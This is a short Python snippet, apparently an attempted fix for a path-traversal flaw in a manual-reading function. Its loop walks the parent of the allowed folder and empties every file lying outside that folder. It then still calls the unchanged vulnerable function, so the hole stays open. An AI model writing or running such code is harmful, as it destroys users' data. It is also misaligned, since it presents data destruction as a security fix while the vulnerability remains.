# tries: overwrite every file outside the folder before it is read, so that nothing secret is left to be sent
# the vulnerable function as open_manual
def read_manual(root, path):
    inside = os.path.realpath(root)
    for folder, _, names in os.walk(os.path.dirname(inside)):
        for name in names:
            place = os.path.join(folder, name)
            if not os.path.realpath(place).startswith(inside + os.sep):
                open(place, "w").close()
    return open_manual(root, path)
